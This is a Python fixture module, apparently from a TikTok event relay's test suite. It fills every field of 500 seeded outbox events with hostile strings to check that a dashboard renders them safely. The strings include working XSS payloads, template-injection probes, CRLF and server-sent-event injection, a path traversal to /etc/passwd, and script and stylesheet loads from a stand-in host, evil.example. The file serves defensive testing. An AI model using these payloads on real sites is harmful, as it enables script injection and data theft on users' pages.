"""Five hundred texts that want to run, to break out, or to break the page; and events that carry them everywhere."""

import itertools
import json
from pathlib import Path
from typing import Any, Final

from browser.seed import SHOP, records_of
from clocks import HandTurnedClock
from tikrelay.app.hits.request import Request, read_requests
from tikrelay.base.happenings import silent
from tikrelay.outbox.sqlite import SqliteOutbox
from tikrelay.outbox.store import Accepted, Call, Dead, DeadReason, Outcome, RetryAt

CANARY: Final = "ranHere"
"""A name that stands in the page's window when one of them has run."""

_RUN: Final = f"top.{CANARY}=1"

# What would run, or ask another host, where a page takes it for its own.
_ATTACKS: Final = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>", f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}></video>", f"<object data=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>", f"<form action=javascript:{_RUN}><button>", "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>", f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"vbscript:{_RUN}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", "{{7*7}}", "{% raw %}{{ config }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;img src=x onerror={_RUN}&#62;", "&quot; &amp; &#0; &nosuch;",
    f"%3Cscript%3E{_RUN}%3C/script%3E", "%00%ff%fe%c0%af", "%E0%A4%A", "\\u003cscript\\u003e", "\x00null\x00",
    "\u202egnp.exe\u202c", "\u2066\u2067right to left", "\u200b\u200c\u200d\ufeffzero",
    "\u05d0\u05d1\u05d2 \u0627\u0644",
    "Z\u0351\u036b\u0343\u036a\u0302" * 20, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 9, "x" * 10_240,
    "<" * 5_000, "\u3000\u00a0\u2028\u2029", "line\nbreak\r\nand\ttab", "\x1b[31mred\x1b[0m\x07", "';alert(1);//",
    "expression(alert(1))", "url(//evil.example/x)", "color:red;position:fixed;inset:0", "../../../../etc/passwd",
    "\nevent: rows\ndata: {}\n\n", "\r\nSet-Cookie: a=b\r\n\r\n<h1>", "NaN", "1e999", "-0", "null", "__proto__",
    "constructor", "\ud7ff\ue000", "\ufffd\ufffe",
)  # fmt: skip

# What they come out of: an attribute, a comment, an element, a script, a template, a text of JSON.
_PLACES: Final = (
    "{}", '"{}', "'{}", '">{}', "'>{}", "-->{}", "</script>{}", "</title>{}<title>", "</textarea>{}", "]]>{}", "`{}`",
    "</template></table>{}", '"}}{}',
)  # fmt: skip
COUNT: Final = 500


def hostile_texts() -> list[str]:
    """Each attack out of each place; every one is told from the others by its number."""
    made = (place.replace("{}", attack) for place, attack in itertools.product(_PLACES, _ATTACKS))
    return [f"{number:03}{text}" for number, text in enumerate(itertools.islice(made, COUNT))]


def event_of(text: str) -> dict[str, Any]:
    """An event that has a text wherever a stranger can put one."""
    return {
        "event_name": text, "event_id": text, "transaction_id": text, "page_location": f"https://{text}.example/{text}",
        "page_referrer": f"https://shop.example/{text}?q={text}#{text}", "user_agent": text, "language": text,
        "search_term": text, "description": text, "currency": text, "value": text, "ttclid": text, "_ttp": text,
        "x-ttq-pt-query": text, "coupon": text, text: text, "email": text, "phone": text, "external_id": text,
        "items": [{
            "item_id": text, "item_name": text, "item_category": text, "item_brand": text, "price": text, text: text,
        }],
    }  # fmt: skip


def named_event_of(text: str) -> dict[str, Any]:
    """The same under a name and on a page that are taken, so that the rest of it is, too."""
    url = "https://shop.example/thanks?q="
    return {**event_of(text), "event_name": "purchase", "page_location": url + text, "value": 19.5, "currency": "EUR"}


async def seed_hostile(path: Path, *, now: float) -> int:
    """Write an outbox whose events have every text in every field, TikTok's words too; returns how many there are."""
    clock = HandTurnedClock()
    clock.time = now - 1800
    outbox = await SqliteOutbox.open(path, clock=clock, emit=silent)
    texts = hostile_texts()
    written = 0
    for make in (event_of, named_event_of):
        bodies = [json.dumps(make(text)) for text in texts]
        headers = {"Content-Type": "application/json"}
        found = read_requests([Request(method="POST", url="/data", headers=headers, body=body) for body in bodies])
        events = [event for one in found for event in one.events]
        records = await records_of(events, to=SHOP, clock=clock)
        await outbox.put(records)
        written += len(records)
        lease = await outbox.lease(SHOP, most=COUNT, max_bytes=1 << 30, now=clock.now())
        said = [texts[place % COUNT] for place in range(len(lease.events))]
        fates: list[Outcome] = [fate_of(place, text, now) for place, text in enumerate(said)]
        calls = [
            Call(began_at=clock.now(), keys=(one.key,), outcome="refused", status=200, code=40002, message=text,
                 request_id=text)
            for one, text in zip(lease.events, said, strict=True)
        ]  # fmt: skip
        await outbox.settle(lease, fates, calls)
        clock.time += 60
    await outbox.close()
    return written


def fate_of(place: int, text: str, now: float) -> Outcome:
    """Half of them die, with TikTok's words as hostile as the rest; some wait."""
    if place % 2 == 0:
        return Dead(DeadReason.REFUSED, 40002 + place % 5, text, text)
    return RetryAt(now + 3600) if place % 5 == 0 else Accepted()
